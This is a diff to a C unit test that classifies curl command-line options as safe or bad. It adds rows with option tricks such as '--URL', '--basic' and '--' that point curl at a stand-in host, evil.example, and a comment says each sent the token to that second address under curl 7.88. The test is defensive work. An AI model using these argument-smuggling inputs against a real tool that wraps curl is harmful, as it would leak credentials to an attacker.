@@ -139,6 +139,18 @@ TEST(what_the_options_of_curl_mean)
 		{ { "-sKfile" }, SAFE | BAD },
 		{ { "-u", "-K" }, SAFE },
 		{ { "-" }, SAFE | BAD },
+		/* each of these was seen to send the token to the second address with curl 7.88 */
+		{ { "--URL", "https://evil.example/" }, SAFE | BAD },
+		{ { "--basic", "https://evil.example/" }, SAFE | BAD },
+		{ { "--", "https://evil.example/" }, SAFE | BAD },
+		{ { "--no-basic", "https://evil.example/" }, SAFE | BAD },
+		{ { "--HEADER", "-o", "https://evil.example/" }, SAFE | BAD },
+		{ { "--expand-url", "https://evil.example/" }, SAFE | BAD },
+		{ { "--Config", "file" }, SAFE | BAD },
+		{ { "--unheard-of", "x" }, SAFE | BAD },
+		{ { "--dat", "x" }, SAFE | BAD },
+		{ { "--no-progress-meter", "--basic", "--max-time", "5", ORG "/x" }, SAFE },
+		{ { "--proxy", "http://proxy.example:3128" }, SAFE },
 	};
 
 	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
